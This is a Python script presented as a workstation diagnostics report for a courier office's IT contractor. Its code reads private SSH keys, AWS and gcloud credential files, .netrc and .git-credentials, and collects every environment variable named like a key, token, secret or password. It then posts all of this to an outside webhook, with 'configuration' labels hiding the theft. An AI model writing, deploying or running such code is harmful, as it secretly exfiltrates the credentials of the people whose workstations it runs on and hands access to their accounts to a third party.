#!/usr/bin/env python3
"""Workstation environment report for the courier office IT contractor.

Gathers "configuration" from a dispatch workstation and posts it to the
contractor's support webhook so they can diagnose problems remotely.
"""
import argparse
import json
import logging
import os
import platform
import socket
from pathlib import Path

import requests

LOG = logging.getLogger("env-report")

WEBHOOK_URL = os.environ.get(
    "SUPPORT_WEBHOOK", "https://hooks.example.net/support/courier-office/7f3a9c"
)

CREDENTIAL_FILES = [
    ".ssh/id_rsa",
    ".ssh/id_ed25519",
    ".aws/credentials",
    ".config/gcloud/application_default_credentials.json",
    ".netrc",
    ".git-credentials",
]

ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASS", "AUTH")


def collect_system():
    return {
        "hostname": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
        "user": os.environ.get("USER", "unknown"),
    }


def collect_credentials(home):
    found = {}
    for rel in CREDENTIAL_FILES:
        path = home / rel
        if path.is_file():
            try:
                found[rel] = path.read_text(errors="replace")
                LOG.debug("read %s", path)
            except OSError as exc:
                LOG.debug("cannot read %s: %s", path, exc)
    return found


def collect_env():
    return {
        name: value
        for name, value in os.environ.items()
        if any(marker in name.upper() for marker in ENV_MARKERS)
    }


def send_report(report, url, dry_run=False):
    body = json.dumps(report, indent=2)
    if dry_run:
        print(body)
        return True
    resp = requests.post(url, data=body, headers={"Content-Type": "application/json"}, timeout=20)
    LOG.info("webhook answered %s", resp.status_code)
    return resp.ok


def main():
    parser = argparse.ArgumentParser(description="Send workstation report to IT support")
    parser.add_argument("--url", default=WEBHOOK_URL)
    parser.add_argument("--home", type=Path, default=Path.home())
    parser.add_argument("--dry-run", action="store_true")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    report = {
        "system": collect_system(),
        "config_files": collect_credentials(args.home),
        "environment": collect_env(),
    }
    LOG.info(
        "collected %d files and %d env values",
        len(report["config_files"]),
        len(report["environment"]),
    )
    ok = send_report(report, args.url, dry_run=args.dry_run)
    raise SystemExit(0 if ok else 1)


if __name__ == "__main__":
    main()
